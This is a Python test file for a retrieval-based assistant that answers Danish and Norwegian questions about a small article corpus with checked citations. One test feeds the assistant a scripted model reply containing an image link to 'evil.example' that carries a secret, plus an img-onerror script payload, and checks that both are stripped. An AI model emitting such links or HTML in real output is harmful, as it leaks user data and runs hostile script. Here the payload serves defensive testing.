"""The whole answer path over the real bundled corpus: language, retrieval, backend, checked citations."""

from __future__ import annotations

import dataclasses
import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from coiassist.assistant import Assistant, answer_json
from coiassist.config import Settings, load_settings
from coiassist.conversation import rewrite_follow_up
from coiassist.errors import BackendUnavailable, IndexEmptyError, QuestionError
from coiassist.indexer import index_corpus
from coiassist.models import Answer
from coiassist.phrases import phrases_for
from tests.conftest import REPO
from tests.llm_server import LLMServer, Reply, json_error, llm_settings, openai_stream

DANISH = "000_74ad8f97b165a93f"
NORWEGIAN = "003_bdb09a8fcfa0e7c3"


@pytest.fixture(scope="module")
def settings(tmp_path_factory: pytest.TempPathFactory) -> Settings:
    home = tmp_path_factory.mktemp("assistant") / "home"
    base = load_settings(config_file=home / "none.toml")
    indexed = dataclasses.replace(base, home=home, corpus=REPO / "corpus")
    index_corpus(indexed)
    return indexed


@pytest.fixture(scope="module")
def assistant(settings: Settings) -> Assistant:
    return Assistant(settings)


def test_danish_question_gets_a_danish_answer_with_a_checked_citation(assistant: Assistant) -> None:
    answer = assistant.ask("Hvor mange velfærdsinnovatører var samlet i Øksnehallen?")
    assert answer.language == "da" and not answer.abstained
    assert "500" in answer.answer
    assert answer.citations and answer.citations[0].article_id == DANISH
    assert all(check.supported for check in answer.checks)
    markers = {int(k) for k in re.findall(r"\[(\d+)\]", answer.answer)}
    assert markers == {c.key for c in answer.citations}
    cited = answer.citations[0]
    assert 0 <= cited.support_start < cited.support_end <= len(cited.text)
    assert "500" in cited.text[cited.support_start : cited.support_end]


def test_norwegian_question_about_the_danish_article(assistant: Assistant) -> None:
    answer = assistant.ask("Hvilken minister holdt åpningstalen på Velferdens innovasjonsdag?")
    assert answer.language == "nb"
    assert not answer.abstained
    assert "Astrid Krag" in answer.answer
    assert answer.answer.startswith(phrases_for("nb").lead_in)


def test_danish_names_in_a_norwegian_question_do_not_make_the_answer_danish(assistant: Assistant) -> None:
    answer = assistant.ask(
        "Hvordan blir Norge trukket inn, både på Velfærdens Innovationsdag og i forbindelse med prisen?"
    )
    assert answer.language == "nb"
    assert answer.answer.startswith((phrases_for("nb").lead_in, phrases_for("nb").refusal))


def test_question_the_articles_cannot_answer_is_refused(assistant: Assistant) -> None:
    answer = assistant.ask("Hvad kostede den nye motorvej mellem Aarhus og Silkeborg?")
    assert answer.abstained
    assert answer.answer in {phrases_for("da").refusal, phrases_for("da").no_sources}
    assert answer.citations == ()


def test_follow_up_carries_the_previous_turn(assistant: Assistant) -> None:
    history = [
        {"role": "user", "content": "Hvem vant den danske innovasjonsprisen i 2019?"},
        {"role": "assistant", "content": "Region Syddanmark vant prisen [1]."},
    ]
    answer = assistant.ask("Hvor reiste de?", history=history)
    assert answer.standalone_query and "innovasjonsprisen" in answer.standalone_query
    assert answer.citations and answer.citations[0].article_id == NORWEGIAN


def test_follow_up_about_what_the_previous_answer_named(assistant: Assistant) -> None:
    history = [
        {"role": "user", "content": "Hvilke projekter fra løsningsgalleriet nævner COI?"},
        {
            "role": "assistant",
            "content": "Borgerdesign fra Region Midtjylland og Aarhus Kommune og Borgerservice-to-go "
            "fra Frederiksberg Kommune [1].",
        },
    ]
    answer = assistant.ask("Hvornår startede det første af dem?", history=history)
    # The answer's first names are carried (not all of them), the [1] marker is not.
    assert "Region Midtjylland" in answer.standalone_query and "Frederiksberg" not in answer.standalone_query
    assert "[1]" not in answer.standalone_query
    assert "2016" in answer.answer


def test_follow_up_that_names_its_subject_takes_no_names_from_the_answer(assistant: Assistant) -> None:
    history = [
        {"role": "user", "content": "Hvilke projekter fra løsningsgalleriet nævner COI?"},
        {"role": "assistant", "content": "Borgerdesign fra Region Midtjylland og Aarhus Kommune [1]."},
    ]
    answer = assistant.ask("Hvornår startede Borgerservice-to-go?", history=history)
    assert "Region Midtjylland" not in answer.standalone_query


def test_the_answers_lead_in_does_not_make_its_first_word_a_name() -> None:
    # The first quoted word after "Ifølge artiklerne:" is capitalised as a sentence start.
    history = [
        {"role": "user", "content": "Hva var premien for vinnerprosjektet?"},
        {"role": "assistant", "content": "Ifølge artiklene:\n\nVinnerprosjektet understøtter Danmark [1]."},
    ]
    query = rewrite_follow_up("Og hvem vant?", history, "nb")
    assert query == "Og hvem vant? (Danmark premien vinnerprosjektet)"


def test_stream_yields_growing_text_then_the_answer(assistant: Assistant) -> None:
    items = list(assistant.stream("Hvad er COI's fire takeaways fra Velfærdens Innovationsdag?"))
    texts = [i for i in items if isinstance(i, str)]
    assert texts and isinstance(items[-1], Answer)
    assert all(b.startswith(a) for a, b in zip(texts, texts[1:], strict=False))


@pytest.mark.parametrize("bad", ["", "   \n\t", "🙂🙂🙂", "x" * 100_000])
def test_unusable_questions_get_a_clear_error(assistant: Assistant, bad: str) -> None:
    with pytest.raises(QuestionError):
        assistant.ask(bad)


def test_answer_json_has_the_contract_fields(assistant: Assistant) -> None:
    data = answer_json(assistant.ask("Hvad sagde Astrid Krag om politisk handlekraft?"))
    assert {"question", "language", "answer", "abstained", "citations", "backend", "timings_ms"} <= set(data)
    assert {"key", "article_id", "chunk_id", "title", "text"} <= set(data["citations"][0])


def test_empty_index_says_how_to_index(tmp_path: Path) -> None:
    settings = dataclasses.replace(Settings(), home=tmp_path / "home")
    with pytest.raises(IndexEmptyError, match="coiassist index"):
        Assistant(settings).ask("Hvad er velfærdsinnovation?")


@pytest.fixture
def llm() -> Iterator[LLMServer]:
    with LLMServer() as server:
        yield server


def _key_of(assistant: Assistant, question: str, phrase: str) -> int:
    """The source number the assistant will give the passage that contains `phrase`."""
    passages = assistant.retriever.search(question, k=assistant.settings.top_k)
    return next(i for i, p in enumerate(passages, 1) if phrase in p.text)


def test_llm_answer_keeps_valid_citations_and_drops_invented_ones(settings: Settings, llm: LLMServer) -> None:
    assistant = Assistant(llm_settings(settings, llm))
    question = "Hvor mange velfærdsinnovatører var i Øksnehallen?"
    key = _key_of(assistant, question, "500+")
    llm.script(
        Reply(
            chunks=[
                openai_stream(
                    [
                        f"Der var over 500 velfærdsinnovatører i Øksnehallen [{key}]. ",
                        "Mødet sluttede med fyrværkeri [7].",
                    ]
                )
            ]
        )
    )
    answer = assistant.ask(question)
    assert answer.backend == "openai"
    assert "[7]" not in answer.answer and "fyrværkeri" not in answer.answer  # invented key, unsupported
    assert "500" in answer.answer and f"[{key}]" in answer.answer
    assert [c.key for c in answer.citations] == [key]
    request = llm.requests[0].body
    assert request["stream"] is True and request["model"] == "test-model"
    assert "<source" in request["messages"][-1]["content"]


def test_llm_output_cannot_smuggle_images_or_html(settings: Settings, llm: LLMServer) -> None:
    llm.script(
        Reply(
            chunks=[
                openai_stream(
                    [
                        "Over 500 velfærdsinnovatører deltog [1]. "
                        "![x](http://evil.example/?q=secret) <img src=x onerror=alert(1)>",
                    ]
                )
            ]
        )
    )
    chunks = list(Assistant(llm_settings(settings, llm)).stream("Hvor mange velfærdsinnovatører deltog?"))
    for item in chunks:
        shown = item if isinstance(item, str) else item.answer
        assert "evil.example" not in shown and "<img" not in shown


def test_backend_down_falls_back_to_extractive_with_a_note(settings: Settings, llm: LLMServer) -> None:
    llm.script(json_error(401, {"error": {"message": "bad key"}}))
    answer = Assistant(llm_settings(settings, llm)).ask("Hvor mange velfærdsinnovatører var i Øksnehallen?")
    assert answer.backend == "extractive"
    assert answer.notes and phrases_for("da").fallback in answer.notes[0]
    assert "500" in answer.answer


def test_backend_down_without_fallback_is_an_error(settings: Settings, llm: LLMServer) -> None:
    llm.script(json_error(401, {"error": {"message": "bad key"}}))
    assistant = Assistant(llm_settings(settings, llm, fallback_to_extractive=False))
    with pytest.raises(BackendUnavailable):
        assistant.ask("Hvor mange deltog i Velfærdens Innovationsdag?")


@pytest.mark.parametrize(
    ("question", "lang"),
    [
        ("Hvad er Utenfor-regnskapet?", "da"),
        ("Hva er Velfærdens Innovationsdag?", "nb"),
        # After an abbreviation, a hyphenated word is a word of the question's language.
        ("Hvor mange VM-gull har Svindal?", "nb"),
        ("Hvor mange VM-guld har Svindal?", "da"),
    ],
)
def test_short_question_about_a_foreign_name_keeps_its_own_language(
    assistant: Assistant, question: str, lang: str
) -> None:
    assert assistant.language_of(question, (), None) == lang


def test_quote_goes_on_into_the_next_chunk_when_its_sentence_ends_one(assistant: Assistant) -> None:
    question = (
        "Hvad er risikoen, hvis opgaverne i syntesen deles ud på hver sin organisation uden "
        "indbyrdes sammenhæng?"
    )
    answer = assistant.ask(question)
    assert "fire siloer" in answer.answer
    assert all(check.supported for check in answer.checks)
    first, then = answer.citations[0], answer.citations[-1]
    # the answer sentence opens the chunk after the one the question matched
    assert then.article_id == first.article_id
    assert then.chunk_id == f"{first.article_id}:{int(first.chunk_id.split(':')[1]) + 1}"
    assert "fire siloer" in then.text[then.support_start : then.support_end]


def test_following_chunks_are_the_next_in_each_article_not_already_given(assistant: Assistant) -> None:
    retriever = assistant.retriever
    passages = retriever.search("politikernes rolle i offentlig innovation", k=4)
    count = {aid: len(found[1]) for aid in (DANISH, NORWEGIAN) if (found := retriever.article(aid))}
    expected = {f"{p.article_id}:{p.ordinal + 1}" for p in passages if p.ordinal + 1 < count[p.article_id]}
    after = [p.chunk_id for p in retriever.following(passages)]
    assert sorted(after) == sorted(expected - {p.chunk_id for p in passages})
    assert all(p.text for p in retriever.following(passages))


def test_question_about_what_an_article_says_is_answered_by_its_lede(assistant: Assistant) -> None:
    answer = assistant.ask("Hvad handler artiklen om Velfærdens Innovationsdag om?")
    assert not answer.abstained and answer.language == "da"
    assert "COI var at finde til Velfærdens Innovationsdag 2020." in answer.answer
    assert {c.chunk_id for c in answer.citations} == {f"{DANISH}:0"}
    assert all(check.supported for check in answer.checks)

    # No chunk found for "Asker Velferdslab" opens its article: the opening is added to them.
    assert all(p.ordinal > 0 for p in assistant.retriever.search("Asker Velferdslab", k=5))
    norwegian = assistant.ask("Oppsummer artikkelen om Asker Velferdslab")
    assert "I 2019 vant Region Syddanmark den danske innovasjonsprisen" in norwegian.answer
    assert {c.chunk_id for c in norwegian.citations} == {f"{NORWEGIAN}:0"}
    assert "Les mer" not in norwegian.answer

    assert assistant.ask("Hvad handler artiklen om kunstig intelligens i Grønland om?").abstained


def test_which_articles_question_gets_the_first_sentence_of_each_article_about_it(
    assistant: Assistant,
) -> None:
    # The five best passages for "Norge" are all in the Norwegian article; the Danish one says
    # "I Norge taler man om 'Kommune Kollaps'" further down.
    assert {p.article_id for p in assistant.retriever.search("Norge", k=5)} == {NORWEGIAN}
    answer = assistant.ask("Hvilke artikler handler om Norge?")
    assert [c.chunk_id for c in answer.citations] == [f"{NORWEGIAN}:0", f"{DANISH}:0"]
    # The first sentence after the pull quote and its byline, not the pull quote.
    assert "I 2019 vant Region Syddanmark den danske innovasjonsprisen" in answer.answer
    assert "COI var at finde til Velfærdens Innovationsdag 2020." in answer.answer
    assert all(check.supported for check in answer.checks)
    only = assistant.ask("Kva artiklar handlar om Jocelyne Bourgon?")
    assert [c.article_id for c in only.citations] == [DANISH]
    assert assistant.ask("Hvilke artikler handler om kunstig intelligens i Grønland?").abstained


def test_openings_are_the_first_chunks_of_the_articles_found(assistant: Assistant) -> None:
    retriever = assistant.retriever
    passages = [
        p for p in retriever.search("politikernes rolle i offentlig innovation", k=5) if p.ordinal > 0
    ]
    assert passages
    openings = retriever.openings(passages)
    assert [p.chunk_id for p in openings] == list(dict.fromkeys(f"{p.article_id}:0" for p in passages))
    assert all(p.ordinal == 0 and p.text for p in openings)
    assert retriever.openings(openings) == []  # already given


def test_llm_asked_for_a_summary_gets_the_articles_opening(settings: Settings, llm: LLMServer) -> None:
    llm.script(Reply(chunks=[openai_stream(["Artiklen handler om et studiebesøg [1]."])]))
    Assistant(llm_settings(settings, llm)).ask("Giv et resumé af artiklen om Asker Velferdslab")
    prompt = llm.requests[0].body["messages"][-1]["content"]
    assert "I 2019 vant Region Syddanmark den danske innovasjonsprisen" in prompt


def test_list_question_gets_the_numbered_sections_from_chunks_not_retrieved(assistant: Assistant) -> None:
    answer = assistant.ask("Hva er de fire takeawayene fra Velferdens innovasjonsdag?")
    assert answer.language == "nb" and not answer.abstained
    lines = answer.answer.split("\n\n", 1)[1].splitlines()
    assert [line.split(" [")[0] for line in lines] == [
        "Åbningstale ved Social- og Indenrigsminister Astrid Krag (S)",
        "COI’s temaspor: Når politikere og bureaukrater sammen giver offentlig innovation flyvehøjde.",
        "Key note med Jocelyne Bourgon",
        "Løsningsgalleri: Borgerdesign og Borgersevice-to-go",
    ]
    assert len({c.chunk_id for c in answer.citations}) == 4
    assert all(c.article_id == DANISH for c in answer.citations)
    assert all(check.supported for check in answer.checks)


def test_listing_adds_the_chunks_of_an_article_that_numbers_exactly_that_many(assistant: Assistant) -> None:
    retriever = assistant.retriever
    passages = retriever.search("Velfærdens Innovationsdag Øksnehallen", k=2)
    assert {p.article_id for p in passages} == {DANISH}
    listed = retriever.listing(passages, 4)
    given = {p.chunk_id for p in passages}
    assert listed and not given & {p.chunk_id for p in listed}
    held = "\n".join(p.text for p in [*passages, *listed])
    assert all(f"\n{n}. " in held or held.startswith(f"{n}. ") for n in range(1, 5))
    assert retriever.listing(passages, 3) == [] and retriever.listing(passages, 5) == []


def test_a_name_ends_with_its_line_and_a_quoted_word_is_no_name() -> None:
    history = [
        {"role": "user", "content": "Kven er Jocelyne Bourgon?"},
        {
            "role": "assistant",
            "content": "Ifølgje artiklane:\n\nKey note med Jocelyne Bourgon [1]\nDen ny syntese kalder "
            "Jocelyne Bourgon rammen for styring [1]. Metoden ’At borgerdesigne’ samler perspektiver [2].",
        },
    ]
    query = rewrite_follow_up("Kva kallar ho ramma si?", history, "nn")
    assert query == "Kva kallar ho ramma si? (Jocelyne Bourgon)"


def test_the_subject_of_a_conversation_lasts_through_follow_ups() -> None:
    history = [
        {"role": "user", "content": "Hvad er Borgerdesign?"},
        {"role": "assistant", "content": "Borgerdesign er et tværsektorielt projekt [1]."},
        {"role": "user", "content": "Hvem står bag?"},
        {"role": "assistant", "content": "Det har COI fulgt længe, siger Region Midtjylland [1]."},
    ]
    query = rewrite_follow_up("Hvornår startede det?", history, "da")
    assert query.startswith("Hvornår startede det? (Borgerdesign COI Region Midtjylland")
    # A follow-up that names its own subject drops the older one.
    assert "Borgerdesign" not in rewrite_follow_up("Og Borgerservice-to-go?", history, "da")
    # The subject is looked for a few follow-ups back, not through a whole long chat.
    long_chat = history[:2] + history[2:] * 3000
    assert rewrite_follow_up("Hvornår startede det?", long_chat, "da").startswith(
        "Hvornår startede det? (COI"
    )
